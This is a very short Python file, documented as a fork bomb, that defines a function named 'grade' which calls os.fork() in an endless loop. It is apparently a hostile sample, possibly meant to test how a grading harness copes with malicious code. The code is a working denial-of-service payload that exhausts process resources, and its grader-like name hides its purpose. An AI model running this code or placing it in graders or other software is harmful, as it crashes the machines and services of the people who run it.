"""A fork bomb."""

import os


def grade(case):
    while True:
        os.fork()
